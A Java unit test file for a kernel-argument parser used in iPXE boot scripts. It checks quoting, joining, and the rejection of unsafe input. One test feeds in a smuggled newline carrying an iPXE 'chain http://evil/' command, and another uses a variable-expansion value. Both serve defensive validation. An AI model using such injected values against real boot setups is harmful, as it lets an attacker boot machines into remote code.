package io.rackboot.boot.script;

import static org.assertj.core.api.Assertions.assertThat;

import io.rackboot.boot.script.KernelArguments.Parsed.Invalid;
import java.util.List;
import org.junit.jupiter.api.Test;

class KernelArgumentsTest {
    @Test
    void wordsEndAtSpacesOutsideOfQuotes() {
        assertThat(Scripts.arguments("  a  b=\"c d\" ", "", "\"e f\"=g h").words())
                .containsExactly("a", "b=\"c d\"", "\"e f\"=g", "h");
    }

    @Test
    void theLineJoinsThemAndWhatFollows() {
        assertThat(Scripts.arguments("a b").and(List.of("c")).line()).isEqualTo("a b c");
    }

    @Test
    void aLineEndIsRefused() {
        assertThat(KernelArguments.parse(List.of("quiet", "x\nchain http://evil/")))
                .isEqualTo(new Invalid("a control character in the kernel argument x?chain http://evil/"));
    }

    @Test
    void ipxeExpansionIsRefused() {
        assertThat(KernelArguments.parse(List.of("x=${net0/mac}")))
                .isEqualTo(new Invalid("${ in the kernel argument x=${net0/mac}, which iPXE would expand"));
    }

    @Test
    void anOpenQuoteIsRefused() {
        assertThat(KernelArguments.parse(List.of("x=\"a b")))
                .isEqualTo(new Invalid("an odd number of double quotes in the kernel argument x=\"a b"));
    }
}
